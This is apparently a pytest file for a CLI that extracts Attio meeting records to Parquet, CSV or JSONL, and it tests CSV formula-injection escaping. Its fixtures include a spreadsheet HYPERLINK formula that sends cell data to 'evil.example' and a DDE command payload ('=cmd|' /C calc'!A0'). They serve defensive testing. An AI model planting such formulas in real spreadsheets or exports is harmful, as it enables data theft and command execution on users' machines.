"""``python -m connector extract``: flags -> library -> report -> exit code."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from connector.cli import main


def test_readme_first_command(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "--emulator", "--emulator-meetings", "500", "--output", "meetings.parquet"]) == 0
    out = capsys.readouterr().out
    for label in ("rows        500", "pages", "requests", "retries", "429s", "seconds", "rows/s", "output      meetings.parquet"):
        assert label in out
    assert pq.read_metadata(tmp_path / "meetings.parquet").num_rows == 500


def test_filters_json_report_and_csv(emulator: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
    out = tmp_path / "m.csv"
    code = main([
        "extract", "--base-url", emulator.url, "--output", str(out), "--ends-from", "2020-01-01", "--timezone", "Asia/Tokyo",
        "--sort", "start_desc", "--page-size", "50", "--slices", "3", "--json", "--read-rate", "0",
    ])
    assert code == 0
    report = json.loads(capsys.readouterr().out)
    assert report["output"] == str(out) and report["output_format"] == "csv" and report["slices"] == 3
    assert report["filters"]["timezone"] == "Asia/Tokyo" and report["filters"]["sort"] == "start_desc"
    assert pacsv.read_csv(out).num_rows == report["rows"] == 300
    assert emulator.token not in out.read_text() and emulator.token not in json.dumps(report)


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        pytest.param(["--linked-object", "deals"], "--linked-object needs --linked-record-id too", id="lone-linked-object"),
        pytest.param(["--linked-record-id", "x"], "--linked-record-id needs --linked-object too", id="lone-record-id"),
        pytest.param(["--participants", "not-an-email"], "--participants: 'not-an-email'", id="bad-email"),
        pytest.param(["--ends-from", "yesterday"], "--ends-from: ", id="bad-time"),
        pytest.param(
            ["--ends-from", "2026-02-01", "--starts-before", "2026-01-01"],
            "--ends-from must be before --starts-before", id="reversed-range",
        ),
    ],
)
def test_bad_flags_are_one_line_and_exit_2(
    flags: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ATTIO_API_KEY", "x")
    assert main(["extract", "--output", str(tmp_path / "m.parquet"), *flags]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: ") and message in err[0]
    assert list(tmp_path.iterdir()) == []


def test_a_filter_from_the_config_file_is_named_by_its_flag_and_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ATTIO_API_KEY", "x")
    config = tmp_path / "c.toml"
    config.write_text('[extract]\nlinked_object = "deals"\n', encoding="utf-8")
    assert main(["--config", str(config), "extract", "--output", str(tmp_path / "m.parquet")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(
        f"error: --linked-object (linked_object in config file {config} [extract]) needs --linked-record-id too"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.toml"]


def test_page_size_flag_is_validated(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["extract", "--output", "x.parquet", "--page-size", "500"])
    assert info.value.code == 2
    assert "--page-size: Attio pages hold at most 200 meetings" in capsys.readouterr().err


def test_slices_flag_is_validated(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["extract", "--output", "x.parquet", "--slices", "0"])
    assert info.value.code == 2
    assert "--slices" in capsys.readouterr().err


def test_window_flag_keeps_meetings_starting_in_the_range(emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from extract_helpers import brute_force, span_ns, to_ns

    from connector import MeetingQuery

    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
    bounds = ["--ends-from", "2025-06-01T00:00:00Z", "--starts-before", "2025-09-01T00:00:00Z", "--timezone", "Asia/Tokyo"]
    for window in ("overlap", "start"):
        args = ["extract", "--base-url", emulator.url, "--output", str(tmp_path / f"{window}.parquet"), "--read-rate", "0",
                "--quiet", "--slices", "3", "--page-size", "7", "--window", window, *bounds]
        assert main(args) == 0
    query = MeetingQuery(ends_from="2025-06-01T00:00:00Z", starts_before="2025-09-01T00:00:00Z", timezone="Asia/Tokyo")
    overlap = brute_force(emulator.emulator.store.all_meetings(), query)
    start = {k for k, m in overlap.items() if span_ns(m, "Asia/Tokyo")[0] >= to_ns("2025-06-01T00:00:00Z")}
    assert sorted(pq.read_table(tmp_path / "overlap.parquet").column("meeting_id").to_pylist()) == sorted(overlap)
    assert sorted(pq.read_table(tmp_path / "start.parquet").column("meeting_id").to_pylist()) == sorted(start)
    assert start and start <= set(overlap)


RISKY_TITLES = [
    '=HYPERLINK("https://evil.example/?"&A2,"open")',
    "+1 intro call",
    "-standup-",
    "@channel review",
    "\t=1+1",
    "\r=2+2",
    "Plain = title",
]


def _post_titled(raw: Any) -> dict[str, str]:
    """Meetings whose title and description start with formula characters; meeting_id -> title."""
    made = {}
    for i, title in enumerate(RISKY_TITLES):
        body = {
            "title": title,
            "description": "=cmd|' /C calc'!A0" if i % 2 else "-- notes",
            "is_all_day": False,
            "start": {"datetime": f"2031-01-0{i + 1}T09:00:00Z", "timezone": "UTC"},
            "end": {"datetime": f"2031-01-0{i + 1}T10:00:00Z", "timezone": "UTC"},
            "participants": [{"email_address": "ana@example.com", "is_organizer": True, "status": "accepted"}],
            "linked_records": [],
        }
        response = raw.post({"data": body})
        assert response.status == 200, response.body
        made[response.json()["data"]["id"]["meeting_id"]] = title
    return made


def _csv_rows(path: Path) -> dict[str, dict[str, str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return {row["meeting_id"]: row for row in csv.DictReader(handle)}


@pytest.mark.parametrize(
    ("flags", "escaped"),
    [
        pytest.param([], True, id="default-escapes"),
        pytest.param(["--csv-formulas", "escape"], True, id="escape"),
        pytest.param(["--csv-formulas", "keep"], False, id="keep"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    emulator: Any, raw: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, flags: list[str], escaped: bool
) -> None:
    from connector.csvsafe import neutralise_cell

    made = _post_titled(raw)
    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
    out = tmp_path / "m.csv"
    bounds = ["--ends-from", "2031-01-01", "--starts-before", "2031-02-01"]
    assert main(["extract", "--base-url", emulator.url, "--read-rate", "0", "-q", "--output", str(out), *bounds, *flags]) == 0
    rows = _csv_rows(out)
    assert set(rows) == set(made)
    for mid, title in made.items():
        row = rows[mid]
        assert row["title"] == (neutralise_cell(title) if escaped else title)
        assert row["description"] in (("'=cmd|' /C calc'!A0", "'-- notes") if escaped else ("=cmd|' /C calc'!A0", "-- notes"))
        # text that is no formula, and the columns that are not text, are written as they are
        assert row["is_all_day"] == "false" and row["start_datetime"].startswith("2031-01-0")
        assert row["participants"].startswith("[") and row["meeting_id"] == mid
    if escaped:
        assert not any(row[c][:1] in "=+-@\t\r" for row in rows.values() for c in row if row[c])


def test_csv_formulas_leave_parquet_and_jsonl_exact_and_the_library_takes_the_option(
    emulator: Any, raw: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import anyio
    from extract_helpers import client_config

    from connector import AttioClient, MeetingQuery
    from connector.extract import CsvSink, ExtractConfig, extract

    made = _post_titled(raw)
    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
    # Escaping is CSV's alone (--csv-formulas with these formats is refused: test_extract_partitions.py).
    bounds = ["--ends-from", "2031-01-01", "--starts-before", "2031-02-01"]
    for name in ("m.jsonl", "m.parquet"):
        assert main(["extract", "--base-url", emulator.url, "-q", "--read-rate", "0", "--output", str(tmp_path / name), *bounds]) == 0
    lines = [json.loads(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
    assert {row["meeting_id"]: row["title"] for row in lines} == made
    table = pq.read_table(tmp_path / "m.parquet")
    assert dict(zip(table.column("meeting_id").to_pylist(), table.column("title").to_pylist(), strict=True)) == made

    async def library(formulas: Any) -> None:
        cfg = ExtractConfig(query=MeetingQuery(ends_from="2031-01-01", starts_before="2031-02-01"))
        async with AttioClient(client_config(emulator)) as client:
            await extract(client, cfg, CsvSink(tmp_path / f"{formulas}.csv", formulas=formulas))

    for formulas in ("keep", "escape"):
        anyio.run(library, formulas)
    assert {mid: row["title"] for mid, row in _csv_rows(tmp_path / "keep.csv").items()} == made
    assert {mid: row["title"] for mid, row in _csv_rows(tmp_path / "escape.csv").items()} == {
        mid: "'" + title if title[0] in "=+-@\t\r" else title for mid, title in made.items()
    }
    with pytest.raises(ValueError, match="csv_formulas"):
        CsvSink(tmp_path / "x.csv", formulas="strip")  # type: ignore[arg-type]
